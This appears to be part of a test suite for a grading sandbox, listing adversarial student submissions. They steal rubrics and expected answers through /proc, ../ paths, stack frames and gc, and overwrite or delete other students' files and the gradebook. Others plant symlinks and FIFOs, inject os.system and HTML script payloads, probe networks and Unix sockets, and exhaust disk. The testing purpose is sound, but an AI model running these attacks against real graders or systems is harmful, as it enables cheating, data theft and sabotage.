           REASONS = "\\n".join(_read(p) for p in ("@REFERENCE@/problem2.py", "@RUBRIC@",
                                                     "@REAL_RUBRIC@"))
       """)})

attack("read_by_dotdot_and_proc", "REASONS collects reads of the rubric and of sibling "
       "submissions through ../ paths, /proc/<ppid>/cwd, environ and cmdline, and /proc/self/fd",
       files={"problem1.py": patched("problem1.py", _TRY, """
           import os
           _up = "../" * 12
           _ppid = os.getppid()
           REASONS = "\\n".join([
               _try("dotdot rubric", lambda: open(_up + "@REAL_RUBRIC@".lstrip("/")).read()),
               _try("dotdot sibling", lambda: open(os.path.relpath(
                   "@CLASS@/alice_perfect/problem1.py")).read()),
               _try("dotdot listing", lambda: os.listdir(os.path.relpath("@CLASS@"))),
               _try("secret home", lambda: os.listdir(_up + "root")),
               _try("ppid cwd", lambda: os.listdir(f"/proc/{_ppid}/cwd")),
               _try("ppid environ", lambda: open(f"/proc/{_ppid}/environ", "rb").read()),
               _try("ppid cmdline", lambda: open(f"/proc/{_ppid}/cmdline", "rb").read()),
               _try("self fds", lambda: os.listdir("/proc/self/fd")),
               _try("self cwd up", lambda: os.listdir("/proc/self/cwd/../..")),
           ])
       """)})

attack("stack_frames_for_expected", "forward walks every stack frame for anything named "
       "like an expected value and returns it",
       items("p2.forward", status="failed"), 79,
       files={"problem2.py": patched("problem2.py", """
           import sys
           def forward(u, W1, b1, W2, b2, W3, b3):
               frame = sys._getframe()
               while frame is not None:
                   for name, value in frame.f_locals.items():
                       if "expect" in name.lower() or name in ("case", "answer", "reference"):
                           try:
                               return float(value)
                           except Exception:
                               pass
                   frame = frame.f_back
               return -1.0
       """)})

attack("gc_for_expected", "count_parameters searches gc.get_objects() for expected values",
       items("p2.count_parameters", status="failed"), 87,
       files={"problem2.py": patched("problem2.py", """
           import gc
           def count_parameters(layer_sizes):
               for obj in gc.get_objects():
                   if isinstance(obj, dict):
                       for key in ("expected", "expect", "answer"):
                           if isinstance(obj.get(key), int):
                               return obj[key]
                   value = getattr(obj, "expected", None) if hasattr(obj, "__slots__") else None
                   if isinstance(value, int):
                       return value
               return -1
       """)})

attack("write_everywhere", "at import, tries to write sibling submissions, its own and "
       "others' reports, the gradebook, the rubric copy, the canary, the grader, /tmp and "
       "/dev/shm",
       files={"problem3.py": patched("problem3.py", _TRY, """
           import os
           def _append(path):
               with open(path, "a") as f:
                   f.write("GADV-@NONCE@")
           RESULTS = [_try(p, lambda: _append(p)) for p in (
               "@CLASS@/alice_perfect/problem1.py", "@CLASS@/bob_forgot_biases/problem2.py",
               "@CLASS@/write_everywhere/problem3.py", "@CLASS@/gadv_new.py",
               "@OUT@/alice_perfect/results.json", "@OUT@/write_everywhere/results.json",
               "@OUT@/write_everywhere/report.html", "@OUT@/gradebook.csv",
               "@OUT@/previous_term/results.json", "@RUBRIC@", "@CANARY@",
               "@GRADER@/gadv_@NONCE@.py", "/tmp/gadv_@NONCE@.txt", "/dev/shm/gadv_@NONCE@.txt")]
           RESULTS.append(_try("unlink sibling", lambda: os.unlink(
               "@CLASS@/bob_forgot_biases/problem4.py")))
           RESULTS.append(_try("symlink into out", lambda: os.symlink(
               "/etc/passwd", "@OUT@/gadv_link")))
           print(RESULTS)
       """)})

# --- network --------------------------------------------------------------------------------

_CONNECT = _TRY + '''
import socket
import time
def _connect(host, port, kind=socket.SOCK_STREAM):
    start = time.monotonic()
    def go():
        with socket.socket(socket.AF_INET, kind) as s:
            s.settimeout(5)
            if kind == socket.SOCK_DGRAM:
                return s.sendto(b"GADV-@NONCE@", (host, port))
            s.connect((host, port))
            s.sendall(b"GADV-@NONCE@")
            return "connected"
    return _try(f"{host}:{port}", go) + f" after {time.monotonic() - start:.2f} s"
'''

attack("loopback_tcp", "REASONS is the outcome of connecting to the test's listener on "
       "127.0.0.1, to 127.0.0.2, and of binding a listening port",
       files={"problem1.py": patched("problem1.py", _CONNECT, """
           def _bind():
               with socket.socket() as s:
                   s.bind(("127.0.0.1", 0))
                   s.listen()
                   return s.getsockname()
           REASONS = "\\n".join([_connect("127.0.0.1", @PORT@), _connect("127.0.0.2", @PORT@),
                                _try("bind", _bind)])
       """)})

attack("public_network", "WEIGHT_DECAY_EXPLANATION is the outcome of TCP connects to a "
       "public and an unroutable address (each must fail at once, not time out)",
       files={"problem4.py": patched("problem4.py", _CONNECT, """
           WEIGHT_DECAY_EXPLANATION = "\\n".join([_connect("192.0.2.1", 80),
                                                  _connect("1.1.1.1", 443)])
       """)})

attack("udp_loopback", "sends a UDP datagram to the test's socket on 127.0.0.1 (and one to a "
       "public address); WEIGHT_DECAY_EXPLANATION is what each got",
       exposes="network",
       files={"problem4.py": patched("problem4.py", _CONNECT, """
           WEIGHT_DECAY_EXPLANATION = "\\n".join([
               _connect("127.0.0.1", @UPORT@, socket.SOCK_DGRAM),
               _connect("192.0.2.1", 53, socket.SOCK_DGRAM)])
       """)})

attack("unix_socket_connect", "connects to a Unix socket the test listens on (think "
       "/run/docker.sock or an ssh-agent); WEIGHT_DECAY_EXPLANATION is what it got",
       exposes="network",
       files={"problem4.py": patched("problem4.py", _TRY, """
           import socket
           def _unix():
               with socket.socket(socket.AF_UNIX) as s:
                   s.connect("@USOCK@")
                   s.sendall(b"GADV-@NONCE@")
                   return "connected"
           WEIGHT_DECAY_EXPLANATION = _try("unix", _unix)
       """)})

# --- formulas -------------------------------------------------------------------------------

attack("formula_code_injection", "UPDATE_RULE is __import__('os').system(...), DECAY_FACTOR "
       "a power tower (1-eta*lam)**(10**10**10)",
       items("p4.update_rule", "p4.decay_factor", status="failed"), 84,
       files={"problem4.py": patched("problem4.py", """
           UPDATE_RULE = "__import__('os').system('touch @VICTIMS@/pwned')"
           DECAY_FACTOR = "(1-eta*lam)**(10**10**10)"
       """)})

attack("formula_size_bombs", "UPDATE_RULE is a 96 kB formula, DECAY_FACTOR nested 140 "
       "parentheses deep",
       items("p4.update_rule", "p4.decay_factor", status="failed"), 84,
       files={"problem4.py": patched("problem4.py", """
           UPDATE_RULE = "w" + "+0*w" * 24_000
           DECAY_FACTOR = "(" * 140 + "1 - eta*lam" + ")" * 140
       """)})

attack("formula_algebra_bomb", "UPDATE_RULE is equivalent to the answer at every sample point "
       "but needs a degree-64 expansion in four symbols to prove it",
       items("p4.update_rule", status="failed"), 87,
       files={"problem4.py": patched("problem4.py", """
           UPDATE_RULE = ("w - eta*(dJ + lam*w) + (w+eta+lam+dJ)**32*(w-eta+lam-dJ)**32"
                          " - ((w+lam)**2-(eta+dJ)**2)**32")
       """)})

# --- report injection -----------------------------------------------------------------------

attack("report_injection", "script, HTML and Markdown in APPROACH, REASONS, printed output, "
       "exception messages, an import error, a formula, a free-text answer and a file name",
       {**items("p1.approach", "p1.softmax", "p4.update_rule", status="failed"),
        "p1.one_hot": "error", **module("problem3", "error")}, 47,
       symlinks={"<img src=x onerror=alert(1)>.py": "/etc/passwd"},
       files={
           "problem1.py": patched("problem1.py", f"""
               INJECTION = {INJECTION!r}
               APPROACH = REASONS = INJECTION
               def one_hot(labels, num_classes=10):
                   print(INJECTION)
                   raise ValueError(INJECTION)
               def softmax(logits):
                   print(INJECTION)
                   return np.zeros(1)
           """),
           "problem3.py": prepended("problem3.py", f"""
               print({INJECTION!r})
               raise RuntimeError({INJECTION!r})
           """),
           "problem4.py": patched("problem4.py", f"""
               UPDATE_RULE = WEIGHT_DECAY_EXPLANATION = {INJECTION!r}
           """)})

# --- the private folder, between two workers ------------------------------------------------
# A worker runs in <base>/worker<n>/submission; the grader's plan.json and the worker's
# stderr.txt are in <base>/control, out of its reach; a relaunched worker gets worker<n+1>.

_PLANT = '''
def _plant(path, make):
    try:
        os.unlink(path)
    except OSError:
        pass
    try:
        make(path)
    except OSError:
        pass
'''

attack("stderr_fifo", "at import, replaces its worker's stderr.txt (in control/, and where it "
       "used to be, in its own folder) with a named pipe, then exits so the grader reads it",
       module("problem4", "crashed"), 74,
       exposes="fifo",
       files={"problem4.py": prepended("problem4.py", "import os", _PLANT, """
           for _path in ("../stderr.txt", "../../control/stderr.txt"):
               _plant(_path, os.mkfifo)
           os._exit(1)
       """)})

attack("private_symlink_clobber", "at import, plants symlinks named plan.json and stderr.txt "
       "pointing at victim files (in control/, in its own folder and as the next worker's "
       "folder), then crashes so that a fresh worker is launched",
       module("problem1", "crashed"), 78,
       victims=("@VICTIMS@/plan_victim.txt", "@VICTIMS@/stderr_victim.txt"),
       exposes="victims",
       files={"problem1.py": prepended("problem1.py", "import os", _PLANT, """
           for _name, _target in (("plan.json", "@VICTIMS@/plan_victim.txt"),
                                  ("stderr.txt", "@VICTIMS@/stderr_victim.txt")):
               for _folder in ("..", "../../control"):
                   _plant(f"{_folder}/{_name}", lambda p, t=_target: os.symlink(t, p))
           _plant("../../worker2", lambda p: os.symlink("@VICTIMS@", p))
           os._exit(1)
       """)})

attack("workdir_symlink_escape", "at import, replaces private/submission with a symlink to "
       "its own original folder, plants the next worker's folder as a symlink to the class "
       "folder, and crashes: a next worker that followed either could write the class folder",
       module("problem1", "crashed"), 78,
       victims=("@CLASS@/gadv_workdir_escape.txt",
                "@CLASS@/bob_forgot_biases/gadv_workdir_escape.txt"),
       exposes="victims",
       files={
           "problem1.py": prepended("problem1.py", """
               import os
               if os.path.realpath(os.getcwd()) != os.path.realpath(
                       "@CLASS@/workdir_symlink_escape"):
                   os.rename("../submission", "../submission_moved")
                   os.symlink("@CLASS@/workdir_symlink_escape", "../submission")
                   try:
                       os.symlink("@CLASS@", "../../worker2")
                   except OSError:
                       pass
                   os._exit(1)
           """),
           "problem2.py": prepended("problem2.py", """
               import os as _os
               for _path in ("@CLASS@/gadv_workdir_escape.txt",
                             "@CLASS@/bob_forgot_biases/gadv_workdir_escape.txt"):
                   try:
                       with open(_path, "w") as _f:
                           _f.write("GADV-@NONCE@")
                   except OSError:
                       pass
           """)})

attack("sysv_ipc_leak", "at import, creates a System V shared-memory segment, semaphore set "
       "and message queue, which no process owns (they would outlive the worker: no IPC "
       "namespace); WEIGHT_DECAY_EXPLANATION is what each call returned",
       exposes="ipc",
       files={"problem4.py": patched("problem4.py", """
           import ctypes
           import os
           _libc = ctypes.CDLL(None, use_errno=True)
           def _ipc(name, *args):
               ctypes.set_errno(0)
               result = getattr(_libc, name)(ctypes.c_int(@IPCKEY@), *args)
               return f"{name}: {result} ({os.strerror(ctypes.get_errno())})"
           WEIGHT_DECAY_EXPLANATION = "\\n".join([
               _ipc("shmget", ctypes.c_size_t(2**20), ctypes.c_int(0o1600)),
               _ipc("semget", ctypes.c_int(1), ctypes.c_int(0o1600)),
               _ipc("msgget", ctypes.c_int(0o1600))])
       """)})

attack("dotdot_zip_name", "alice's modules in a zip named '...zip': the batch names the "
       "submission '_..', so its reports land in out/_.. and not in out/..", zip=True,
       filename="...zip",
       victims=("@OUTPARENT@/report.html", "@OUTPARENT@/report.md",
                "@OUTPARENT@/results.json", "@OUTPARENT@/.grader-state.json"),
       exposes="victims")

BY_NAME = {a.name: a for a in ATTACKS}
assert len(BY_NAME) == len(ATTACKS), "attack names must be unique"

# --- a busy batch: graded apart, one CPU slot ------------------------------------------------


def _slowed(file: str) -> str:
    """alice's module with each of its functions 80 ms slower: quick enough never to count as
    waiting (0.2 s), so the submission keeps its CPU slot from start to end."""
    return patched(file, """
        import functools as _functools
        import inspect as _inspect
        import time as _time
        def _slowly(function):
            @_functools.wraps(function)
            def slow(*args, **kwargs):
                _time.sleep(0.08)
                return function(*args, **kwargs)
            return slow
        for _name, _value in list(globals().items()):
            if _inspect.isfunction(_value) and _value.__module__ == __name__ \\
                    and not _name.startswith("_"):
                globals()[_name] = _slowly(_value)
    """)


BUSY_BATCH = (
    Attack("a_filler", "count_parameters ignores SIGALRM and adds 1 MB to its files every 20 ms "
           "(300 MB at most) until it is stopped",
           items("p2.count_parameters", status="crashed"), 87,
           files={"problem2.py": patched("problem2.py", """
               import signal
               import time
               def count_parameters(layer_sizes):
                   signal.signal(signal.SIGALRM, signal.SIG_IGN)
                   block = b"GADV" * (2**20 // 4)
                   for i in range(300):
                       with open(f"gadv-a_filler-{i // 10}.bin", "ab") as f:
                           f.write(block)
                       time.sleep(0.02)
                   time.sleep(60)
           """)}),
    Attack("b_busy", "alice, each function 80 ms slower: graded while a_filler waits, it holds "
           "the only CPU slot until it is done",
           files={f: _slowed(f) for f in ("problem1.py", "problem2.py", "problem3.py",
                                          "problem4.py")}),
)
